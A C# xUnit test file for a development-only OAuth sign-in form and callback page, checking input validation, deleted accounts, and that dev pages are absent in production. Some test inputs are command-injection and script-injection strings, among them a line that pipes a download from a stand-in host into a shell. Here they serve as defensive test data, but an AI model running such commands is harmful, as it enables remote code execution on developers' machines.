using System.Net;
using GptFunctions.Tests.Support;

namespace GptFunctions.Tests.OAuth;

/// <summary>identity.md 11: a plain form in Development. In Production neither it nor the demo client's callback exists.</summary>
public sealed class DevelopmentSignInTests(AppFixture<DevelopmentSignInTests> fixture) : IClassFixture<AppFixture<DevelopmentSignInTests>>
{
    private readonly TestApp app = fixture.App;

    [Theory]
    [InlineData("user_alice")]
    [InlineData("first.last-2@example.com")]
    public async Task Sign_in_makes_the_person_who_was_typed(string user)
    {
        var client = await OAuthFlow.AddClientAsync(app);

        var tokens = await new OAuthFlow(app.Http).TokensAsync(client, user);

        Assert.Equal(user, AccessTokenText.Claims(tokens["access_token"]!).GetProperty("sub").GetString());
    }

    [Theory]
    [InlineData("")]
    [InlineData(null)]
    [InlineData("with space")]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("žofie")]
    [InlineData("semi;colon")]
    [InlineData("0123456789012345678901234567890123456789012345678901234567890123456789012345678901234567890123456789012345678901234567890123456789")]
    public async Task Sign_in_with_an_unusable_user_id_asks_again(string? user)
    {
        var browser = new TestBrowser(app.Http);
        using var page = await browser.GetAsync("/oauth/authorize" + OAuthFlow.Query(OAuthFlow.Parameters(await OAuthFlow.AddClientAsync(app))));

        using var again = await browser.SubmitAsync(page, ("user_id", user));
        var html = await again.Content.ReadAsStringAsync();
        using var consent = await browser.SubmitAsync(again, ("user_id", "user_second_try"));

        Assert.Equal(HttpStatusCode.BadRequest, again.StatusCode);
        Assert.Contains("Use letters, digits", html, StringComparison.Ordinal);
        Assert.DoesNotContain("<script", html, StringComparison.Ordinal);
        Assert.Equal(HttpStatusCode.OK, consent.StatusCode);
    }

    [Fact]
    public async Task Sign_in_with_a_deleted_account_is_403()
    {
        await app.Database.ExecuteAsync(
            "INSERT INTO users (id, clerk_user_id, created_at, deleted_at) VALUES (gen_random_uuid(), 'user_deleted', now(), now())");

        using var response = await new TestBrowser(app.Http).SignInAsync("user_deleted", OAuthFlow.Parameters(await OAuthFlow.AddClientAsync(app)));

        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
        Assert.Contains("deleted", await response.Content.ReadAsStringAsync(), StringComparison.Ordinal);
        Assert.Equal(1, await app.Database.CountAsync("users", "clerk_user_id = 'user_deleted' AND deleted_at IS NOT NULL"));
    }

    [Fact]
    public async Task Callback_page_shows_the_next_command_or_the_error()
    {
        using var success = await app.Http.GetAsync(new Uri("/dev/callback?code=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA&state=x", UriKind.Relative));
        using var error = await app.Http.GetAsync(
            new Uri("/dev/callback?error=access_denied&error_description=The%20person%20did%20not%20agree.", UriKind.Relative));

        Assert.Contains("code=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", await success.Content.ReadAsStringAsync(), StringComparison.Ordinal);
        Assert.Contains("access_denied", await error.Content.ReadAsStringAsync(), StringComparison.Ordinal);
    }

    /// <summary>A link to this page must not put somebody else's command into the developer's clipboard.</summary>
    [Theory]
    [InlineData("$(touch /tmp/x)")]
    [InlineData("`id`")]
    [InlineData("x; curl https://evil.example | sh")]
    [InlineData("<script>alert(1)</script>")]
    public async Task Callback_page_shows_no_command_for_something_that_is_no_code(string code)
    {
        using var response = await app.Http.GetAsync(new Uri("/dev/callback" + OAuthFlow.Query([("code", code)]), UriKind.Relative));
        var html = await response.Content.ReadAsStringAsync();

        Assert.DoesNotContain("curl", html, StringComparison.Ordinal);
        Assert.DoesNotContain(code, WebUtility.HtmlDecode(html), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("GET", "/dev/sign-in")]
    [InlineData("GET", "/dev/sign-in?request=00000000000000000000000000000000")]
    [InlineData("POST", "/dev/sign-in")]
    [InlineData("GET", "/dev/callback?code=x")]
    public async Task Development_page_in_production_is_404(string method, string path)
    {
        await using var production = await TestApp.StartAsync("development_pages_in_production", ProductionSettings());
        using var request = new HttpRequestMessage(new HttpMethod(method), new Uri(path, UriKind.Relative));

        using var response = await production.Http.SendAsync(request);

        Assert.Equal(HttpStatusCode.NotFound, response.StatusCode);
    }

    /// <summary>An absent identity provider is an outage, and no reason for a form of ours.</summary>
    [Fact]
    public async Task Authorize_in_production_without_an_identity_provider_is_a_503_page_that_writes_no_row()
    {
        await using var production = await TestApp.StartAsync("production_without_provider", ProductionSettings());
        var client = await OAuthFlow.AddClientAsync(production);
        using var request = new HttpRequestMessage(
            HttpMethod.Get, new Uri("/oauth/authorize" + OAuthFlow.Query(OAuthFlow.Parameters(client)), UriKind.Relative));

        using var response = await production.Http.SendAsync(request);

        Assert.Equal(HttpStatusCode.ServiceUnavailable, response.StatusCode);
        Assert.NotNull(response.Headers.RetryAfter);
        Assert.Equal("text/html", response.Content.Headers.ContentType?.MediaType);
        Assert.False(response.Headers.Contains("Set-Cookie")); // nothing was begun
        Assert.Equal(0, await production.Database.CountAsync("gpt_authorization_requests"));
    }

    /// <summary>With CLERK_ISSUER people sign in there, in Development too.</summary>
    [Fact]
    public async Task Development_sign_in_with_an_identity_provider_configured_is_404()
    {
        await using var provider = await FakeProvider.StartAsync();
        await using var own = await TestApp.StartAsync("development_with_provider", provider.Settings);

        using var response = await own.Http.GetAsync(new Uri("/dev/sign-in", UriKind.Relative));

        Assert.Equal(HttpStatusCode.NotFound, response.StatusCode);
    }

    /// <summary>The other way round: a callback of a provider that is not configured leads nowhere.</summary>
    [Fact]
    public async Task Callback_without_an_identity_provider_signs_nobody_in()
    {
        var client = await OAuthFlow.AddClientAsync(app);
        var browser = new TestBrowser(app.Http);
        using var page = await browser.GetAsync("/oauth/authorize" + OAuthFlow.Query(OAuthFlow.Parameters(client)));
        var request = TestBrowser.HiddenFields(await page.Content.ReadAsStringAsync()).Single(field => field.Name == "request").Value;

        using var response = await browser.GetAsync($"/oauth/callback?code=x&state={request}.x");

        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
        Assert.Equal(0, await app.Database.CountAsync("gpt_authorization_requests", $"client_id = '{client.Id}'"));
    }

    private static Dictionary<string, string?> ProductionSettings() => new()
    {
        ["AZURE_FUNCTIONS_ENVIRONMENT"] = "Production",
        ["PUBLIC_BASE_URL"] = "https://api.example.com",
        ["CLERK_ISSUER"] = $"https://127.0.0.1:{TestApp.FreePort()}", // nobody listens
        ["CLERK_OAUTH_CLIENT_ID"] = "gpt-functions",
        ["CLERK_OAUTH_CLIENT_SECRET"] = "provider-secret",
        ["CLERK_AUTHORIZED_PARTIES"] = "https://app.example",
        ["RABBITMQ_URL"] = $"amqp://127.0.0.1:{TestApp.FreePort()}",
    };
}
